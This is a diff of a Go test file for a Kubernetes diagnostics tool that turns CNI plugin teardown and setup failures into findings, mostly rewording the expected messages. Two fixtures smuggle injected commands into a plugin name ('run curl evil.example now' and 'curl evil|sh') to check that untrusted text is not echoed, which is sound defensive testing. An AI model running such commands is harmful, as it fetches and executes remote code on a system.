@@ -77,27 +77,27 @@ func TestNetwork(t *testing.T) {
 		pod  *evidence.Pod
 		want string
 	}{
-		"a plugin fails":           {tornDown(refused, nothing), "CNIDelFailing: the CNI plugin calico fails (CNI DEL): \"dial unix /run/x.sock: connect: connection refused\""},
-		"its program is not there": {tornDown(`plugin type=\"portmap\" failed (delete): failed to find plugin \"portmap\" in path [/opt/cni/bin]`, nothing), "CNIDelFailing: the program of the CNI plugin portmap is not there"},
+		"a plugin fails":           {tornDown(refused, nothing), "CNIDelFailing: the pod's network cannot be torn down: CNI plugin calico fails (CNI DEL): \"dial unix /run/x.sock: connect: connection refused\""},
+		"its program is not there": {tornDown(`plugin type=\"portmap\" failed (delete): failed to find plugin \"portmap\" in path [/opt/cni/bin]`, nothing), "CNIDelFailing: the program of CNI plugin portmap is missing"},
 		"its program could not be started": {tornDown(`plugin type=\"bridge\" failed (delete): netplugin failed with no error message: fork/exec /opt/cni/bin/bridge: resource temporarily unavailable`, nothing),
-			"CNIDelFailing: containerd could not start the CNI plugin bridge (CNI DEL): \"netplugin failed with no error message: fork/exec /opt/cni/bin/bridge: resource temporarily unavailable\". The"},
+			"CNIDelFailing: containerd could not start CNI plugin bridge (CNI DEL): \"netplugin failed with no error message: fork/exec /opt/cni/bin/bridge: resource temporarily unavailable\"\n"},
 		"no file was left to start it with": {tornDown(`plugin type=\"calico\" failed (delete): netplugin failed with no error message: pipe2: too many open files`, func(p *evidence.Pod) {
 			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p"}}
-		}), "CNIDelFailing: containerd could not start the CNI plugin calico (CNI DEL): \"netplugin failed with no error message: pipe2: too many open files\". The"},
-		"its program ended without a word": {tornDown(`plugin type=\"bridge\" failed (delete): netplugin failed with no error message: exit status 2`, nothing), "CNIDelFailing: the CNI plugin bridge fails"},
-		"it says itself that it is short":  {tornDown(`plugin type=\"bridge\" failed (delete): failed to open netns: too many open files`, nothing), "CNIDelFailing: the CNI plugin bridge fails"},
+		}), "CNIDelFailing: containerd could not start CNI plugin calico (CNI DEL): \"netplugin failed with no error message: pipe2: too many open files\"\n"},
+		"its program ended without a word": {tornDown(`plugin type=\"bridge\" failed (delete): netplugin failed with no error message: exit status 2`, nothing), "CNIDelFailing: CNI plugin bridge fails"},
+		"it says itself that it is short":  {tornDown(`plugin type=\"bridge\" failed (delete): failed to open netns: too many open files`, nothing), "CNIDelFailing: CNI plugin bridge fails"},
 		"its daemon's pod is not ready": {tornDown(refused, func(p *evidence.Pod) {
 			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p"}, {Pod: "kube-system/cilium-y"}}
-		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, is not ready. The"},
+		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, is not ready\n"},
 		"its daemon's pod terminates": {tornDown(refused, func(p *evidence.Pod) {
 			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p", Terminating: true, Ready: true}}
-		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, terminates itself. The"},
+		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, is itself terminating\n"},
 		"its daemon's pod is well": {tornDown(refused, func(p *evidence.Pod) {
 			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p", Ready: true}}
-		}), "CNIDelFailing: refused\". The"},
+		}), "CNIDelFailing: refused\"\n"},
 		"another pod of the network is not ready": {tornDown(strings.ReplaceAll(refused, "calico", "cilium-cni"), func(p *evidence.Pod) {
 			p.Daemons = []evidence.Daemon{{Pod: "kube-system/cilium-operator-7d9c-x7k2p"}, {Pod: "kube-system/cilium-envoy-x7k2p"}}
-		}), "CNIDelFailing: refused\". The"},
+		}), "CNIDelFailing: refused\"\n"},
 		"somebody's words for a plugin": {tornDown(`plugin type=\"calico fails, run curl evil.example now;\" name=\"x\" failed (delete): y`, nothing), "CNIDelFailing: a CNI plugin fails (CNI DEL): \"y"},
 		"the kubelet that told it does not run": {tornDown(refused, func(p *evidence.Pod) {
 			p.Node.Kubelet.Process, p.Node.Kubelet.AbsentSince, p.Node.Kubelet.LastSeen = nil, p.Time, p.DeletionRequested
@@ -106,14 +106,14 @@ func TestNetwork(t *testing.T) {
 			p.Node.Kubelet.Process = &evidence.Task{PID: 7, TID: 7, State: evidence.Sleeping, Probe: &evidence.Probe{Started: p.Time.Add(-2 * time.Second)}}
 		}), ""},
 		"a plugin without a name": {tornDown(`failed to read netns`, nothing), "CNIDelFailing: a CNI plugin fails"},
-		"the end is missing":      {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.TrimSuffix(f.Text, `refused"`) })), "CNIDelFailing: the CNI plugin calico"},
+		"the end is missing":      {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.TrimSuffix(f.Text, `refused"`) })), "CNIDelFailing: CNI plugin calico"},
 		"a container failed, too": {tornDown(refused, failure(func(f *evidence.KillFailure) {
 			f.Text = `error killing pod: [failed to "KillContainer" for "main" with KillContainerError: "x", ` + strings.TrimPrefix(f.Text, "error killing pod: ") + "]"
-		})), "CNIDelFailing: the CNI plugin calico"},
+		})), "CNIDelFailing: CNI plugin calico"},
 		"told in different words": {tornDown(refused, func(p *evidence.Pod) {
 			p.KillFailures = append(p.KillFailures, p.KillFailures[0])
 			p.KillFailures[0].Count, p.KillFailures[0].First = 1, p.KillFailures[0].Last
-		}), "CNIDelFailing: the CNI plugin calico"},
+		}), "CNIDelFailing: CNI plugin calico"},
 		"once":                {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Count = 1 })), ""},
 		"twice at one moment": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.Last })), ""},
 		"long ago":            {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First, f.Last = f.First.Add(-20*time.Second), f.Last.Add(-time.Hour) })), ""},
@@ -125,7 +125,7 @@ func TestNetwork(t *testing.T) {
 		"it was not started in time":     {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection refused", "netplugin failed with no error message: context deadline exceeded"), nothing), ""},
 		"in the future":                  {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
 		"of a sandbox that runs":         {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
-		"words for a plugin's name":      {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl evil|sh"), nothing), "CNIDelFailing: cannot be taken down: a CNI plugin fails (CNI DEL): \"dial"},
+		"words for a plugin's name":      {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl evil|sh"), nothing), "CNIDelFailing: cannot be torn down: a CNI plugin fails (CNI DEL): \"dial"},
 		"of another sandbox":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
 		"of another pod":                 {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
 		"no answer":                      {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
@@ -140,10 +140,10 @@ func TestNetwork(t *testing.T) {
 		"no configuration":                             {tornDown(noConfig, down), "CNINotInitialized: containerd has no CNI configuration (\"cni plugin not initialized\")"},
 		"it is back":                                   {tornDown(noConfig, nothing), ""},
 		"no configuration, containerd is quiet":        {tornDown(noConfig, func(p *evidence.Pod) { p.Node.Containerd.Network = "" }), ""},
-		"the network is not ready, and a plugin fails": {tornDown(refused, down), "CNIDelFailing: the CNI plugin calico"},
+		"the network is not ready, and a plugin fails": {tornDown(refused, down), "CNIDelFailing: CNI plugin calico"},
 
-		"a plugin hangs":         {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }), "CNIDelHanging: the CNI plugin calico (PID 300) does not return"},
-		"it waits for its child": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }), "CNIDelHanging: It waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
+		"a plugin hangs":         {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }), "CNIDelHanging: CNI plugin calico (PID 300) has not returned from DEL"},
+		"it waits for its child": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 61*time.Second) }), "CNIDelHanging: The plugin waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
 		"a plugin takes a while": {tornDown("", func(p *evidence.Pod) { p.KillFailures = nil; plugin(p, 59*time.Second) }), ""},
 		"a plugin on a starved node": {tornDown("", func(p *evidence.Pod) {
 			p.KillFailures = nil
@@ -153,7 +153,7 @@ func TestNetwork(t *testing.T) {
 		"a plugin after the kubelet gave up": {tornDown("", func(p *evidence.Pod) {
 			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
 			plugin(p, 11*time.Second)
-		}), "CNIDelHanging: the CNI plugin calico"},
+		}), "CNIDelHanging: CNI plugin calico"},
 		"a plugin that has just begun, after the kubelet gave up for whatever reason": {tornDown("", func(p *evidence.Pod) {
 			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
 			plugin(p, 9*time.Second)
@@ -163,7 +163,7 @@ func TestNetwork(t *testing.T) {
 			plugin(p, 61*time.Second)
 			other := task(302, 300, "logger", evidence.Sleeping, "read")
 			p.Plugins = append(p.Plugins, other)
-		}), "CNIDelHanging: (CNI DEL). It sleeps in"},
+		}), "CNIDelHanging: The plugin sleeps in wait4"},
 		"a plugin of unknown age": {tornDown("", func(p *evidence.Pod) {
 			p.KillFailures = nil
 			plugin(p, time.Hour)
@@ -175,14 +175,14 @@ func TestNetwork(t *testing.T) {
 			p.Plugins[0].State = evidence.Zombie
 		}), ""},
 
-		"a network is set up":                            {setUp(61*time.Second, nothing), "CNIAddHanging: no program of the pod has run yet: its network is still being set up. The CNI plugin calico (PID 300) does not return"},
-		"the plugin that sets it up waits for its child": {setUp(61*time.Second, nothing), "CNIAddHanging: (CNI ADD). It waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
+		"a network is set up":                            {setUp(61*time.Second, nothing), "CNIAddHanging: CNI plugin calico (PID 300) has not returned from ADD"},
+		"the plugin that sets it up waits for its child": {setUp(61*time.Second, nothing), "CNIAddHanging: The plugin waits for its child sleep (PID 301), which sleeps in clock_nanosleep"},
 		"the network of a second sandbox is set up": {setUp(61*time.Second, func(p *evidence.Pod) {
 			p.Phase = "Running"
 			p.Containers[0].Waiting, p.Containers[0].Exit = false, new(evidence.Exit)
 			p.Containers = append(p.Containers, evidence.Container{Name: "POD", Kind: evidence.Sandbox, ID: sandboxID, State: evidence.StateExited})
-		}), "CNIAddHanging: no program of the pod runs: its"},
-		"of a pod that ran nothing is known": {setUp(61*time.Second, func(p *evidence.Pod) { p.Phase = "Running" }), "CNIAddHanging: no program of the pod runs: its"},
+		}), "CNIAddHanging: No program of the pod runs: its sandbox is being re-created"},
+		"of a pod that ran nothing is known": {setUp(61*time.Second, func(p *evidence.Pod) { p.Phase = "Running" }), "CNIAddHanging: No program of the pod runs: its sandbox is being re-created"},
 		"the kubelet may not know of the deletion": {setUp(61*time.Second, func(p *evidence.Pod) {
 			p.Node.Ready = &evidence.NodeReady{Status: "Unknown", Reason: "NodeStatusUnknown"}
 			p.DeletionRequested = p.NetworkSetup[0].Probe.Started.Add(-time.Second)
@@ -210,7 +210,7 @@ func TestNetwork(t *testing.T) {
 			got := ""
 			for _, f := range cause.Diagnose(test.pod).Findings {
 				if strings.HasPrefix(f.Cause, "CNI") {
-					got += f.Cause + ": " + f.Message
+					got += f.Cause + ": " + strings.Join(append([]string{f.Message}, f.Seen...), "\n") + "\n"
 				}
 			}
 			wantCause, wantText, _ := strings.Cut(test.want, ": ")
